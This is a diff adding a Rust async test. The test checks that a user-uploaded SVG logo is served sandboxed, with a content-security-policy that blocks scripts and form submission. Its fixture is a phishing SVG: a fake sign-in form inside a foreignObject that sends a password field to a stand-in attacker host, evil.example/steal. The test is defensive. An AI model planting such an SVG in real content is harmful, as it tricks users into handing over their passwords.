@@ -418,3 +418,28 @@ async fn the_logo_is_served_once_by_url_for_every_account_it_decorates() {
         assert_eq!(response.status(), 404, "{missing}");
     }
 }
+
+/// An SVG logo holding a form opens as a sandboxed document: no script, no form submission,
+/// an opaque origin.
+#[tokio::test]
+async fn an_svg_logo_is_served_sandboxed() {
+    let app = TestApp::start(SECRET).await;
+    let user = app.new_user().await;
+    let svg = r#"<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="200" height="50"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/steal"><input name="password"/><button>Sign in</button></form></foreignObject></svg>"#;
+    let mut body = access_payload(vec![account("svg", "at-svg")]);
+    body["payload"]["accessToken"]["brokerBrandInfo"]["brokerLogo"] =
+        base64::engine::general_purpose::STANDARD.encode(svg).into();
+    let saved: Vec<ConnectionSummary> = save(&app, &user, body).await.json().await.unwrap();
+    let url = saved[0].logo_url.clone().expect("a logo URL");
+    let logo = app
+        .http
+        .get(format!("http://{}{url}", app.addr))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(logo.headers()["content-type"], "image/svg+xml");
+    let policy = logo.headers()["content-security-policy"].to_str().unwrap();
+    let directives: Vec<&str> = policy.split(';').map(str::trim).collect();
+    assert!(directives.contains(&"sandbox"), "{policy}");
+    assert!(directives.contains(&"form-action 'none'"), "{policy}");
+}
